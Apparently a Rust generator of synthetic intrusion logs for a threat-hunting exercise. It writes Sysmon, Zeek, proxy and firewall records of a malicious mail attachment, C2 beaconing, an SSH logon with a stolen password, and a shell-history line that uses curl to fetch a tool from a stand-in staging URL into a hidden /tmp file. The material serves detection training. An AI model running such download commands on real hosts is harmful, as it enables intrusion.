//! What the intruder does that day, record by record, each noted.

use tegakari_model::ObservableKind as K;

use super::cast::{
    AOKI, BABA, C2, C2_ADDRESS, C2_BELOW, DC, FILE_MD5, FILE_NAME, FILE_SHA256, Machine, PROXY,
    STAGE, STAGE_ADDRESS, STAGE_PATH, STAGE_URL, WEB,
};
use super::endpoint::{Event, sysmon, sysmon_file};
use super::random::Random;
use super::servers::{FIREWALL_LOG, PROXY_LOG, WEB_HISTORY, command, firewall, proxied, syslog};
use super::sheet::{Moment, Place, Sheet, at};
use super::zeek::{self, CONN, DNS, HTTP, Request};

const DOMAIN_AND_ADDRESS: &[(K, &str)] = &[(K::Domain, C2), (K::Ipv4, C2_ADDRESS)];
const ADDRESS: &[(K, &str)] = &[(K::Ipv4, C2_ADDRESS)];
const STAGE_BOTH: &[(K, &str)] = &[(K::Domain, STAGE), (K::Ipv4, STAGE_ADDRESS)];
const STAGE_ONLY_ADDRESS: &[(K, &str)] = &[(K::Ipv4, STAGE_ADDRESS)];
const NAME: &[(K, &str)] = &[(K::FileName, FILE_NAME)];

const DROPPED: &str = "C:\\Users\\aoki\\AppData\\Local\\Temp\\dwmsvc64.exe";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

pub(super) fn write(sheet: &mut Sheet, random: &mut Random) {
    attachment(sheet, random);
    let mut moment = at(0, 48, 20, 415);
    let mut nth = 0;
    while moment < at(9, 40, 0, 0) {
        beacon(sheet, random, &AOKI, DROPPED, C2, moment, nth % 3 == 0);
        moment += random.between(1_260_000, 1_440_000) as i64;
        nth += 1;
    }
    let mut moment = at(3, 12, 44, 90);
    let mut nth = 0;
    while moment < at(9, 10, 0, 0) {
        let image = "C:\\Windows\\System32\\rundll32.exe";
        beacon(sheet, random, &BABA, image, C2_BELOW, moment, nth % 2 == 0);
        moment += random.between(2_000_000, 2_300_000) as i64;
        nth += 1;
    }
    tools(sheet, random);
}

/// Mail attachment opened on the first machine: the file is written and run.
fn attachment(sheet: &mut Sheet, random: &mut Random) {
    let file = sysmon_file(&AOKI);
    let written = Place {
        file: &file,
        moment: at(0, 47, 31, 204),
    };
    let event = Event::FileCreated {
        image: OUTLOOK,
        file: DROPPED,
    };
    sysmon(sheet, random, &AOKI, written.moment, &event);
    sheet.note(&written, AOKI.name, NAME);
    let run = Place {
        file: &file,
        moment: at(0, 47, 58, 731),
    };
    let hashes = format!(
        "MD5={},SHA256={}",
        FILE_MD5.to_uppercase(),
        FILE_SHA256.to_uppercase()
    );
    let event = Event::Process {
        image: DROPPED,
        parent: OUTLOOK,
        hashes,
    };
    sysmon(sheet, random, &AOKI, run.moment, &event);
    let known = [
        (K::FileName, FILE_NAME),
        (K::Md5, FILE_MD5),
        (K::Sha256, FILE_SHA256),
    ];
    sheet.note(&run, AOKI.name, &known);
}

/// The malware asks its server for orders, through the proxy.
fn beacon(
    sheet: &mut Sheet,
    random: &mut Random,
    machine: &Machine,
    image: &str,
    host: &str,
    moment: Moment,
    resolves: bool,
) {
    let file = sysmon_file(machine);
    let from_file = if image == DROPPED { NAME } else { &[] };
    if resolves {
        let asked = Place {
            file: DNS,
            moment: moment - 180,
        };
        zeek::dns(
            sheet,
            random,
            asked.moment,
            machine.address,
            DC.address,
            host,
            Some(C2_ADDRESS),
        );
        sheet.note(&asked, name(machine), DOMAIN_AND_ADDRESS);
        let told = Place {
            file: &file,
            moment: moment - 120,
        };
        let event = Event::Dns {
            image,
            name: host,
            address: C2_ADDRESS,
        };
        sysmon(sheet, random, machine, told.moment, &event);
        sheet.note(&told, name(machine), DOMAIN_AND_ADDRESS);
        sheet.note(&told, name(machine), from_file);
    }
    let connected = Place {
        file: &file,
        moment: moment - 40,
    };
    let event = Event::Connection {
        image,
        to: (PROXY.address, 3128),
    };
    sysmon(sheet, random, machine, connected.moment, &event);
    sheet.note(&connected, name(machine), from_file);
    let uid = random.id('C');
    let port = random.between(49_152, 65_535);
    let proxy = (PROXY.address, 3128);
    zeek::conn(
        sheet,
        random,
        moment - 35,
        &uid,
        (machine.address, port),
        proxy,
        "http",
    );

    let uri = format!("/index.html?id={}", random.hex(8));
    proxied(
        sheet,
        random,
        moment,
        machine,
        &format!("http://{host}{uri}"),
        C2_ADDRESS,
    );
    let place = Place {
        file: PROXY_LOG,
        moment,
    };
    sheet.note(&place, name(machine), DOMAIN_AND_ADDRESS);

    // From the proxy onwards.
    let onwards = moment + 15;
    let (from, to) = (
        (PROXY.address, random.between(32_768, 60_999)),
        (C2_ADDRESS, 80),
    );
    let uid = random.id('C');
    zeek::conn(sheet, random, onwards, &uid, from, to, "http");
    sheet.note(
        &Place {
            file: CONN,
            moment: onwards,
        },
        PROXY.name,
        ADDRESS,
    );
    let bytes = random.between(40, 900);
    let agent = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)";
    let request = Request {
        uid: &uid,
        from,
        to,
        method: "GET",
        host,
        uri: &uri,
        agent,
        bytes,
    };
    zeek::http(sheet, onwards + 5, &request);
    sheet.note(
        &Place {
            file: HTTP,
            moment: onwards + 5,
        },
        PROXY.name,
        DOMAIN_AND_ADDRESS,
    );
    let end = firewall(sheet, random, onwards, from, to);
    for moment in [onwards, end] {
        sheet.note(
            &Place {
                file: FIREWALL_LOG,
                moment,
            },
            PROXY.name,
            ADDRESS,
        );
    }
}

/// With a stolen password on the web server: a tool is fetched twice.
fn tools(sheet: &mut Sheet, random: &mut Random) {
    let logon = format!(
        "Accepted password for kato from {} port 50122 ssh2",
        AOKI.address
    );
    syslog(sheet, at(5, 12, 44, 871), "sshd[2210]", &logon);
    for (typed, in_history) in [(at(5, 20, 11, 0), true), (at(6, 40, 2, 0), false)] {
        if in_history {
            command(
                sheet,
                typed,
                &format!("curl -s -o /tmp/.cache-upd '{STAGE_URL}'"),
            );
            let place = Place {
                file: WEB_HISTORY,
                moment: typed,
            };
            sheet.note(&place, WEB.name, &[(K::Url, STAGE_URL), (K::Domain, STAGE)]);
        }
        let asked = Place {
            file: DNS,
            moment: typed + 310,
        };
        zeek::dns(
            sheet,
            random,
            asked.moment,
            WEB.address,
            DC.address,
            STAGE,
            Some(STAGE_ADDRESS),
        );
        sheet.note(&asked, WEB.name, STAGE_BOTH);
        let moment = typed + 402;
        let (from, to) = (
            (WEB.address, random.between(32_768, 60_999)),
            (STAGE_ADDRESS, 80),
        );
        let uid = random.id('C');
        zeek::conn(sheet, random, moment, &uid, from, to, "http");
        sheet.note(&Place { file: CONN, moment }, WEB.name, STAGE_ONLY_ADDRESS);
        let request = Request {
            uid: &uid,
            from,
            to,
            method: "GET",
            host: STAGE,
            uri: STAGE_PATH,
            agent: "curl/8.5.0",
            bytes: 48_213,
        };
        let place = Place {
            file: HTTP,
            moment: moment + 21,
        };
        zeek::http(sheet, place.moment, &request);
        sheet.note(&place, WEB.name, STAGE_BOTH);
        sheet.note(&place, WEB.name, &[(K::Url, STAGE_URL)]);
        let end = firewall(sheet, random, moment, from, to);
        for moment in [moment, end] {
            sheet.note(
                &Place {
                    file: FIREWALL_LOG,
                    moment,
                },
                WEB.name,
                STAGE_ONLY_ADDRESS,
            );
        }
    }
}

fn name(machine: &Machine) -> &'static str {
    machine.name
}
